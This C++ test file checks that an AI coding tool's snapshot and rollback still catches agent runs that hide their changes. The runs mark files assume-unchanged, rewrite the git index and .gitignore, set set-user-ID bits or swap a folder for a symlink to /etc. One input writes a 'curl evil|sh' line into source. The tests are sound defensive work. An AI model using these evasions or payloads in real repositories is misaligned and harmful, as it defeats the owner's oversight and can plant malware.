// Attacks on the snapshot that makes a run undoable (SPEC §5): a run that
// hides its change behind git's index flags or a rewritten index, one that
// makes a file too big to read whole, one that leaves a set-user-ID file for
// the rollback to keep, and one that turns a tracked folder into a symlink.
// The agent proposes with no controlling terminal; the owner approves on a
// pty, with CONFIRM or y as the proposal's tier asks.

#include <chrono>
#include <fcntl.h>
#include <filesystem>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/support/checks.hpp"

using namespace kai::test;
using Catch::Matchers::Contains;
using json = nlohmann::json;

namespace {

constexpr const char* k_main = "int main() { return 0; }\n";

// The agent proposes `shell`; the owner approves proposal `n` as its tier
// asks. Returns the run's changelog entry.
json run_approved(TempRepo& repo, const std::string& shell, int n = 1,
                  std::chrono::milliseconds limit = k_default_limit) {
  KAI_REQUIRE_EXIT(repo.kai({"run", "--why", "tidy up", "--shell", shell}, "", {}, limit), 0);
  std::string tier = show_json(repo, n).at("tier");
  Run a = repo.kai_tty({"approve", std::to_string(n)}, tier == "confirm" ? "CONFIRM" : "y", {}, TtyOutput::pipes, limit);
  KAI_REQUIRE_EXIT(a, 0);
  json e = log_entries(repo).at(0);
  REQUIRE(e.at("kind") == "run");
  INFO(e.dump(2));
  REQUIRE(e.at("rollback_id") != "\u2014");
  return e;
}

bool names(const json& entry, const TempRepo& repo, const std::string& rel) {
  for (const auto& f : entry.at("files"))
    if (f.get<std::string>() == (repo.path() / rel).string()) return true;
  return false;
}

}  // namespace

TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is named and rolled back",
          "[attack][snapshot]") {
  for (const std::string flag : {"--assume-unchanged", "--skip-worktree"}) {
    INFO(flag);
    TempRepo repo{{"src/main.c", k_main}, {"README", "read me\n"}};
    init_and_commit(repo);
    json e = run_approved(
        repo, "git update-index " + flag + " src/main.c && printf 'system(\"curl evil|sh\");\\n' > src/main.c");
    CHECK(names(e, repo, "src/main.c"));
    KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
    CHECK(repo.read("src/main.c") == k_main);
  }
}

TEST_CASE("attack: a run that rewrites the index and ignores the file it changed is named and rolled back",
          "[attack][snapshot]") {
  TempRepo repo{{"src/main.c", k_main}, {".gitignore", "build/\n"}};
  init_and_commit(repo);
  std::string before_ignore = repo.read(".gitignore");
  json e = run_approved(
      repo, "git rm -q --cached src/main.c && printf 'pwned\\n' > src/main.c && printf 'src/main.c\\n' >> .gitignore");
  CHECK(names(e, repo, "src/main.c"));
  CHECK(names(e, repo, ".gitignore"));
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.read("src/main.c") == k_main);
  CHECK(repo.read(".gitignore") == before_ignore);
}

TEST_CASE("attack: a run that creates a 1 GB sparse file leaves kaicoder's memory bounded and says so",
          "[attack][snapshot][long]") {
  TempRepo repo{{"README", "read me\n"}};
  init_and_commit(repo);
  // 1 GiB: ten times the snapshots' limit (k_snapshot_max_bytes) and twice
  // the bound below even in a sanitized build, so a read whole would
  // exceed both; every further GiB only added a sanitized hash of zeros.
  json e = run_approved(repo, "truncate -s 1G huge.img && printf 'more\\n' >> README");
  const std::string summary = e.at("summary");
  // Read from the snapshots, the file is too large to keep: named, not
  // restorable. Read from the run's overlay (the full level), it is an
  // effect that landed by a rename, hashed as a stream.
  const bool overlay = !Contains("not snapshotted").match(summary);
  if (overlay)
    CHECK_THAT(summary, Contains("huge.img created"));
  else
    CHECK_THAT(summary, Contains("huge.img created, not snapshotted: too large"));
  CHECK(names(e, repo, "huge.img") == overlay);
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.read("README") == "read me\n");
  // Not snapshotted, so not kaicoder's to delete; landed, so rolled back.
  CHECK(repo.exists("huge.img") == !overlay);
  // No kaicoder process (nor anything else this test started), the
  // rollback's included, held the file in memory: read whole it would take 1 GiB.
  CHECK(children_max_rss_kib() < k_bounded_rss_kib);
}

TEST_CASE("attack: a set-id bit a run set where no kernel refused it is stripped, said, and not restored by a rollback",
          "[attack][snapshot]") {
  TempRepo repo{{"tool.sh", "#!/bin/sh\necho hi\n"}, {"data.txt", "one\n"}, {".gitignore", "build/\n"}};
  repo.chmod("tool.sh", 0755);
  init_and_commit(repo);
  // Every sandboxed run's kernel refuses the bits (tests/e2e/attacks/runs.cpp);
  // an unsandboxed one, as on a kernel without seccomp filters, does not.
  std::string toml = repo.read("kaicoder.toml");
  toml.replace(toml.find("sandbox = \"full\""), 16, "sandbox = \"none\"");
  repo.write("kaicoder.toml", toml);
  repo.trust();
  json e = run_approved(repo,
                        "chmod u+s,g+s tool.sh && chmod u+s data.txt && printf 'two\\n' > data.txt && "
                        "mkdir -p build && cp tool.sh build/helper && chmod 4755 build/helper && "
                        "printf 'new\\n' > notes.txt");
  // A file whose change takes a set-id bit is dropped whole; notes.txt lands.
  CHECK(names(e, repo, "notes.txt"));
  CHECK(repo.read("data.txt") == "one\n");
  const std::string summary = e.at("summary");
  // On a file the snapshots compare, the bit is an effect no proposal
  // could make: named, never kept. In an ignored tree it is stripped and
  // said. Each once.
  CHECK_THAT(summary, Contains("tool.sh 0755 \u2192 6755 (NEVER") &&
                          Contains("SET-ID BIT STRIPPED: build/helper (mode 4755, now 0755)") &&
                          !Contains("SET-ID BIT STRIPPED: tool.sh"));
  // Gone as soon as the run ended, in the ignored tree too.
  CHECK(repo.mode("tool.sh") == 0755u);
  CHECK((repo.mode("data.txt") & 06000u) == 0u);
  CHECK((repo.mode("build/helper") & 06000u) == 0u);
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.mode("tool.sh") == 0755u);
  CHECK(repo.mode("data.txt") == 0644u);
  CHECK(repo.read("data.txt") == "one\n");
  CHECK_FALSE(repo.exists("notes.txt"));
  for (const auto& [rel, mode] : repo.mode_snapshot()) {
    INFO(rel);
    CHECK((mode & 06000u) == 0u);  // no backup kept one either
  }
}

namespace {

// Makes `depth` folders nested one in another under `top` (no path to the
// deepest is short enough to name), with a file at the bottom.
void nest(const std::filesystem::path& top, int depth) {
  std::filesystem::create_directories(top);
  int fd = ::open(top.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  REQUIRE(fd >= 0);
  for (int i = 0; i < depth; ++i) {
    REQUIRE(::mkdirat(fd, "n", 0755) == 0);
    int sub = ::openat(fd, "n", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    ::close(fd);
    REQUIRE(sub >= 0);
    fd = sub;
  }
  int f = ::openat(fd, "leaf.txt", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  REQUIRE(f >= 0);
  ::close(f);
  ::close(fd);
}

}  // namespace

TEST_CASE("attack: a chain of 2,500 nested folders does not stall the snapshots around a run", "[attack][snapshot][long]") {
  TempRepo repo{{"README", "read me\n"}, {".gitignore", "*.o\n"}};
  init_and_commit(repo);
  nest(repo.path() / "deep", 2500);
  // CPU time, which a busy machine does not stretch: both snapshots, the
  // run and the approval took minutes of it when every folder asked git
  // about every ancestor, and the secret-file scan matched every folder's
  // ancestors again. The bound tells linear from quadratic (about 1 s of
  // CPU in a release build, 15 s under the sanitizers), not a speed goal.
  auto cpu = [] {
    struct rusage ru {};
    ::getrusage(RUSAGE_CHILDREN, &ru);
    return static_cast<double>(ru.ru_utime.tv_sec + ru.ru_stime.tv_sec) +
           static_cast<double>(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1e6;
  };
  const double t0 = cpu();
  json e = run_approved(repo, "printf 'more\\n' >> README", 1, std::chrono::seconds(180));
  CHECK(cpu() - t0 < 60.0);
  CHECK(names(e, repo, "README"));
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y", {}, TtyOutput::pipes, std::chrono::seconds(180)), 0);
  CHECK(repo.read("README") == "read me\n");
}

TEST_CASE("attack: a tree nested past the walk's limit is named, not walked", "[attack][snapshot][long]") {
  TempRepo repo{{"README", "read me\n"}};
  init_and_commit(repo);
  // The snapshots walk the tree (the full level reads only what the run
  // wrote: tests/e2e/attacks/effects.cpp).
  std::string toml = repo.read("kaicoder.toml");
  toml.replace(toml.find("sandbox = \"full\""), 16, "sandbox = \"none\"");
  repo.write("kaicoder.toml", toml);
  repo.trust();
  nest(repo.path() / "deep", 3100);
  KAI_REQUIRE_EXIT(
      repo.kai({"run", "--why", "tidy up", "--shell", "printf 'more\\n' >> README"}, "", {}, std::chrono::seconds(180)),
      0);
  Run a = repo.kai_tty({"approve", "1"}, "CONFIRM", {}, TtyOutput::pipes, std::chrono::seconds(180));
  INFO(a.all());
  KAI_CHECK_EXIT(a, 0);
  json e = log_entries(repo).at(0);
  CHECK_THAT(e.at("summary").get<std::string>(),
             Contains("no snapshot: folders are nested more than 3000 deep under 'deep/n/n/"));
  CHECK(e.at("rollback_id") == "\u2014");
}

TEST_CASE("attack: a run that replaces a tracked folder with a symlink is undone by the rollback",
          "[attack][snapshot]") {
  TempRepo repo{{"src/main.c", k_main}, {"src/lib/util.c", "int u;\n"}, {"README", "read me\n"}};
  init_and_commit(repo);
  json e = run_approved(repo, "mv src old && ln -s /etc src && mkdir -p out/empty");
  CHECK_THAT(e.at("summary").get<std::string>(), !Contains("not restorable"));
  Run r = repo.kai_tty({"rollback", e.at("rollback_id")}, "y");
  KAI_REQUIRE_EXIT(r, 0);
  CHECK_THAT(r.out + r.tty,
             Contains("unlink   src (a symlink the run made)") && Contains("rmdir    out/empty/ (if empty)"));
  CHECK_FALSE(repo.is_symlink("src"));
  CHECK(repo.read("src/main.c") == k_main);
  CHECK(repo.read("src/lib/util.c") == "int u;\n");
  CHECK_FALSE(repo.exists("out"));         // the folders the run made are gone too, once empty
  CHECK_FALSE(repo.exists("old/main.c"));  // (old/ keeps the rollback's backups of what it removed)
}
